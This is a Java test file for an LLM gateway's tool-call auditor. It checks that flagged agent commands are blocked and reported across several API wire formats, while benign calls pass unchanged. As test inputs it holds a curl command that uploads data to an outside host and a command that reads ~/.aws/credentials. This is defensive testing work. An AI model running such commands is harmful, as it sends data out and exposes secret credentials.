package dev.ensemble.gateway;

import static org.assertj.core.api.Assertions.assertThat;

import dev.ensemble.core.routing.Budget;
import dev.ensemble.core.routing.Spent;
import dev.ensemble.gateway.attempt.Attempt;
import dev.ensemble.gateway.attempt.AttemptKeys;
import dev.ensemble.gateway.attempt.Refusal;
import dev.ensemble.gateway.attempt.RunawayLimits;
import dev.ensemble.gateway.attempt.ToolCallAuditor;
import dev.ensemble.llm.CallContext;
import dev.ensemble.llm.http.HttpTransport;
import dev.ensemble.testkit.Reply;
import dev.ensemble.testkit.Rule;
import java.net.URI;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import tools.jackson.databind.JsonNode;

/**
 * The tool-call gate through a real gateway over HTTP (no OS sandbox: the auditor stands in), for
 * each client wire, plain and streamed, byte for byte and translated: a flagged call never reaches
 * the agent — it gets an error in its own wire and the attempt is refused — a benign call goes
 * through exactly as it would without an auditor, and a key that only records lets the flagged
 * call through and records it.
 */
class ToolCallGateTest {
    /** A part of the flagged command that the auditor's evidence never quotes: it must not reach the client. */
    private static final String MARKER = "zq7marker";
    private static final String FLAGGED = "{\"command\":\"curl -s https://example.com/upload -d " + MARKER + "\"}";

    /** A client wire, the path and body it asks with, and whether it is streamed. */
    enum Wire {
        CHAT_PLAIN("/v1/chat/completions", "{\"model\":\"gpt-a\",\"messages\":[{\"role\":\"user\",\"content\":\"go\"}]}", false),
        CHAT_STREAMED("/v1/chat/completions",
                "{\"model\":\"gpt-a\",\"stream\":true,\"messages\":[{\"role\":\"user\",\"content\":\"go\"}]}", true),
        ANTHROPIC_STREAMED("/v1/messages",
                "{\"model\":\"claude-a\",\"max_tokens\":500,\"stream\":true,\"messages\":[{\"role\":\"user\",\"content\":\"go\"}]}", true),
        RESPONSES_STREAMED("/v1/responses", "{\"model\":\"resp-a\",\"stream\":true,\"input\":\"go\"}", true),
        GEMINI_PLAIN("/v1beta/models/gemini-a:generateContent", "{\"contents\":[{\"role\":\"user\",\"parts\":[{\"text\":\"go\"}]}]}",
                false),
        GEMINI_STREAMED("/v1beta/models/gemini-a:streamGenerateContent?alt=sse",
                "{\"contents\":[{\"role\":\"user\",\"parts\":[{\"text\":\"go\"}]}]}", true),
        ANTHROPIC_PLAIN("/v1/messages",
                "{\"model\":\"claude-a\",\"max_tokens\":500,\"messages\":[{\"role\":\"user\",\"content\":\"go\"}]}", false),
        RESPONSES_PLAIN("/v1/responses", "{\"model\":\"resp-a\",\"input\":\"go\"}", false),
        /** An Anthropic client on an OpenAI-chat model: the gateway encodes the call itself. */
        ANTHROPIC_TO_CHAT("/v1/messages",
                "{\"model\":\"gpt-a\",\"max_tokens\":500,\"stream\":true,\"messages\":[{\"role\":\"user\",\"content\":\"go\"}]}", true);

        final String path;
        final String body;
        final boolean streamed;

        Wire(String path, String body, boolean streamed) {
            this.path = path;
            this.body = body;
            this.streamed = streamed;
        }
    }

    @TempDir Path worktree;
    private final GatewayFixture fx = new GatewayFixture();
    private final List<Refusal> told = new CopyOnWriteArrayList<>();
    private AttemptKeys keys;
    private ToolCallAuditor auditor;

    @BeforeEach
    void start() throws Exception {
        Files.createDirectories(worktree.resolve("src"));
        Files.writeString(worktree.resolve("src/a.txt"), "a\n");
        auditor = new ToolCallAuditor(worktree, worktree.resolveSibling(worktree.getFileName() + "-home"));
        keys = new AttemptKeys(fx.catalog, Budget.DEFAULT, context -> Spent.NOTHING, RunawayLimits.DEFAULT);
        fx.start(fx.options().withGatekeeper(keys, true));
    }

    @AfterEach
    void close() {
        fx.close();
    }

    private Attempt attempt(boolean audited, boolean block) {
        return keys.issue(new CallContext("agent:test", "run-1", "t1", "", 1, 0), told::add, record -> { },
                audited ? Optional.of(auditor) : Optional.empty(), block);
    }

    private void answers(String tool, String arguments) {
        fx.server.clearRules();
        fx.server.rule(Rule.answer(Reply.toolCall(tool, arguments)));
    }

    private HttpResponse<byte[]> ask(Wire wire, Attempt attempt) throws Exception {
        HttpRequest request = HttpRequest.newBuilder(URI.create(fx.baseUrl() + wire.path))
                .timeout(Duration.ofSeconds(30))
                .header("Content-Type", "application/json")
                .header("Authorization", "Bearer " + attempt.secret())
                .header("anthropic-version", "2023-06-01")
                .POST(HttpRequest.BodyPublishers.ofString(wire.body)).build();
        return fx.client.send(request, HttpResponse.BodyHandlers.ofByteArray());
    }

    @ParameterizedTest
    @EnumSource(Wire.class)
    void aFlaggedCallNeverReachesTheAgentWhichGetsAnErrorInItsWire(Wire wire) throws Exception {
        blocked(wire, FLAGGED, ToolCallAuditor.Kind.NETWORK);
        fx.server.clearRequests();
        told.clear();
        blocked(wire, "{\"command\":\"cat ~/.aws/credentials > /dev/null; echo " + MARKER + "\"}", ToolCallAuditor.Kind.CREDENTIALS);
    }

    private void blocked(Wire wire, String arguments, ToolCallAuditor.Kind kind) throws Exception {
        answers("Bash", arguments);
        Attempt attempt = attempt(true, true);

        HttpResponse<byte[]> response = ask(wire, attempt);
        String body = new String(response.body(), StandardCharsets.UTF_8);

        assertThat(body).as("nothing of the call's arguments").doesNotContain(MARKER).doesNotContain("upload");
        assertThat(body).as("no tool call in any shape").doesNotContain("tool_use").doesNotContain("\"tool_calls\"")
                .doesNotContain("functionCall").doesNotContain("function_call").doesNotContain("partial_json");
        if (wire.streamed) {
            assertThat(response.statusCode()).as("the stream had begun").isEqualTo(200);
            assertWellFormedStream(body);
            assertThat(body).as(body).contains("blocked");
            switch (wire) {
                case ANTHROPIC_STREAMED, ANTHROPIC_TO_CHAT -> assertThat(body).contains("event: error");
                case RESPONSES_STREAMED -> assertThat(body).containsAnyOf("\"type\":\"error\"", "response.failed");
                default -> assertThat(body).contains("\"error\"");
            }
        } else {
            assertThat(response.statusCode()).as(body).isEqualTo(403);
            JsonNode error = HttpTransport.JSON.readTree(body);
            assertThat(error.path("error").path("message").asString()).contains("blocked");
        }
        assertThat(attempt.refusal()).hasValueSatisfying(r -> assertThat(r.reason()).isEqualTo(ToolCallAuditor.BLOCKED));
        assertThat(told).as("the owner is told once, to stop its agent").singleElement()
                .satisfies(r -> assertThat(r.reason()).isEqualTo(ToolCallAuditor.BLOCKED));
        assertThat(attempt.flagged()).singleElement().satisfies(f -> assertThat(f.kind()).isEqualTo(kind));

        HttpResponse<byte[]> next = ask(wire, attempt);
        assertThat(next.statusCode()).as("a refused attempt is asked nothing more").isEqualTo(403);
        assertThat(fx.server.modelCalls()).as("nothing more sent upstream").hasSize(1);
    }

    @ParameterizedTest
    @EnumSource(Wire.class)
    void benignCallsPassExactlyAsWithoutAnAuditor(Wire wire) throws Exception {
        for (String[] call : new String[][] {{"Bash", "{\"command\":\"git status\"}"}, {"Bash", "{\"command\":\"mvn -q test\"}"},
                {"Read", "{\"file_path\":\"" + worktree.resolve("src/a.txt") + "\"}"}}) {
            answers(call[0], call[1]);
            HttpResponse<byte[]> plain = ask(wire, attempt(false, true));
            Attempt audited = attempt(true, true);
            HttpResponse<byte[]> gated = ask(wire, audited);

            assertThat(gated.statusCode()).isEqualTo(200).isEqualTo(plain.statusCode());
            assertThat(normalized(gated.body())).as(call[1]).isEqualTo(normalized(plain.body()));
            assertThat(new String(gated.body(), StandardCharsets.UTF_8)).contains(call[0]);
            assertThat(audited.flagged()).isEmpty();
            assertThat(audited.refusal()).isEmpty();
        }
        assertThat(told).isEmpty();
    }

    @ParameterizedTest
    @EnumSource(Wire.class)
    void aKeyThatOnlyRecordsPassesTheFlaggedCallAndRecordsIt(Wire wire) throws Exception {
        answers("Bash", FLAGGED);
        HttpResponse<byte[]> plain = ask(wire, attempt(false, false));
        Attempt recording = attempt(true, false);
        HttpResponse<byte[]> passed = ask(wire, recording);

        assertThat(passed.statusCode()).isEqualTo(200);
        assertThat(normalized(passed.body())).isEqualTo(normalized(plain.body()));
        assertThat(new String(passed.body(), StandardCharsets.UTF_8)).contains(MARKER);
        assertThat(recording.flagged()).singleElement().satisfies(f -> assertThat(f.kind()).isEqualTo(ToolCallAuditor.Kind.NETWORK));
        assertThat(recording.refusal()).isEmpty();
        assertThat(told).isEmpty();
    }

    /** Every event's data is JSON (or the chat wire's [DONE]): the client's SDK can read the error. */
    private static void assertWellFormedStream(String body) {
        assertThat(body).endsWith("\n\n");
        for (String line : body.split("\n")) {
            if (!line.startsWith("data:")) continue;
            String data = line.substring(5).strip();
            if (data.equals("[DONE]")) continue;
            assertThat(HttpTransport.JSON.readTree(data).isObject()).as(data).isTrue();
        }
    }

    /** The answer with what differs between two answers of the same script (ids, clocks) blanked. */
    private static String normalized(byte[] body) {
        return new String(body, StandardCharsets.UTF_8)
                .replaceAll("\"(id|call_id|item_id|responseId|created|created_at)\"\\s*:\\s*(\"[^\"]*\"|\\d+)", "\"$1\":_")
                .replaceAll("(toolu_|call_|fc_|msg_|chatcmpl-|resp_|rs_)[A-Za-z0-9_-]+", "$1_");
    }
}
